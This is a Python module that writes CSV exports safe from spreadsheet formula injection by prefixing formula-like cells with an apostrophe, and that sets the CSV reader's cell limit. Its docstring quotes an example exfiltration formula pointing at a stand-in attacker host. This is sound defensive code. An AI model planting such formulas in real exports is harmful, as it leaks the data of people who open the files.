"""CSV files: exports that a spreadsheet cannot turn into formulas, and the cell limit
of the CSV readers that set it (:func:`allow_long_cells`).

A cell that starts with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return, which
some spreadsheets skip before looking for one of those) is run as a formula when the
file is opened in Excel or LibreOffice: a project title such as
``=HYPERLINK("http://evil.example/?"&A1)`` would leak data. Every CSV Lotura writes goes
through :func:`safe_cell`, which prefixes such text with an apostrophe (OWASP's advice).
Numbers stay numbers: ``-3`` is a value, not a formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

__all__ = ["FIELD_LIMIT", "allow_long_cells", "safe_cell", "write_csv"]

#: The longest cell Lotura reads, in characters. CORDIS objectives and RNSR lists are
#: long; a runaway quotation mark is still reported instead of eating the whole file.
FIELD_LIMIT = 1 << 20


def allow_long_cells() -> None:
    """Set the csv module's cell limit (global to the process) to :data:`FIELD_LIMIT`.

    The loaders' reader (``loaders/csvio.py``) and the residency planner's
    (``graphsvc/residency/csvio.py``) call this when they are imported, so that their
    files read the same in the CLI and the web app whatever was imported first.
    """
    csv.field_size_limit(FIELD_LIMIT)

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """Return ``value`` ready for a CSV cell: formula-like text gets a leading ``'``.

    >>> safe_cell("=1+2"), safe_cell("+34 944"), safe_cell("@SUM(A1)"), safe_cell("-x")
    ("'=1+2", "'+34 944", "'@SUM(A1)", "'-x")
    >>> safe_cell("Mondragon"), safe_cell(-3), safe_cell(2.5), safe_cell(None)
    ('Mondragon', -3, 2.5, '')
    >>> safe_cell(["a", "=b"])
    "a; '=b"
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return value
    if isinstance(value, list | tuple | set | frozenset):
        return "; ".join(str(safe_cell(v)) for v in value)
    text = str(value)
    if text.startswith(_TRIGGERS):
        return "'" + text
    return text


def write_csv(
    rows: Iterable[Mapping[str, Any] | Sequence[Any]],
    headers: Sequence[str],
    keys: Sequence[str] | None = None,
) -> str:
    """The CSV text of ``rows`` under ``headers``, every cell through :func:`safe_cell`.

    Rows are mappings (read by ``keys``, default ``headers``) or sequences. Headers are
    neutralised too (they may be translated text).

    >>> print(write_csv([{"name": "=cmd", "n": 2}], ["name", "n"]), end="")
    name,n
    '=cmd,2
    """
    out = io.StringIO()
    w = csv.writer(out, lineterminator="\n")
    w.writerow([safe_cell(h) for h in headers])
    cols = list(keys or headers)
    for row in rows:
        if isinstance(row, Mapping):
            w.writerow([safe_cell(row.get(k)) for k in cols])
        else:
            w.writerow([safe_cell(v) for v in row])
    return out.getvalue()
